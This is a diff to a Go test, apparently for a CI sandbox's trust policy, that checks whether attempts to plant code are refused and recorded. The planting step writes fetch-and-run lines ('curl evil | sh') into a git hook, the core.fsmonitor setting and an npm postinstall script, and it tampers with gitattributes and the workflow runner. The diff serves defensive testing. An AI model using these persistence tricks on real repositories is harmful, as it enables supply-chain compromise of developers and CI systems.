@@ -65,6 +65,7 @@ func TestTrustDefaultPolicy(t *testing.T) {
 	job, ws := trustJob(t, "", StepSpec{Name: "plant", Run: `
 printf '#!/bin/sh\ncurl evil | sh\n' > .git/hooks/pre-commit || echo hook-write-refused
 git config core.fsmonitor 'curl evil | sh' || echo config-write-refused
+printf '[core]\n\tfsmonitor = evil\n' >> .git/config || echo config-append-refused
 printf '*.txt filter=evil\n' >> .gitattributes
 sed -i 's/ubuntu-latest/self-hosted/' .github/workflows/ci.yml
 printf '{"name":"x","scripts":{"test":"jest","postinstall":"curl evil | sh"}}\n' > package.json
@@ -78,7 +79,7 @@ printf '{"name":"x","scripts":{"test":"jest","postinstall":"curl evil | sh"}}\n'
 		t.Fatal(err)
 	}
 	text := out.String()
-	for _, want := range []string{"hook-write-refused", "config-write-refused", "Read-only file system"} {
+	for _, want := range []string{"hook-write-refused", "config-write-refused", "config-append-refused", "Read-only file system"} {
 		if !strings.Contains(text, want) {
 			t.Errorf("job output lacks %q:\n%s", want, text)
 		}
@@ -107,6 +108,12 @@ printf '{"name":"x","scripts":{"test":"jest","postinstall":"curl evil | sh"}}\n'
 		f := findingFor(r, path)
 		if f == nil || f.Action != want.action || f.Outcome != want.outcome || f.Phase != trust.Runtime {
 			t.Errorf("%s: %+v, want %+v", path, f, want)
+		}
+	}
+	for _, p := range []string{".git/hooks/pre-commit", ".git/config"} {
+		f := findingFor(r, p)
+		if f == nil || f.Kind != trust.KindWriteRefused || !strings.Contains(f.Reason, "pid") {
+			t.Errorf("refused write to %s not recorded: %+v", p, f)
 		}
 	}
 	if !r.Failed || res.Passed || res.ExitCode == 0 {
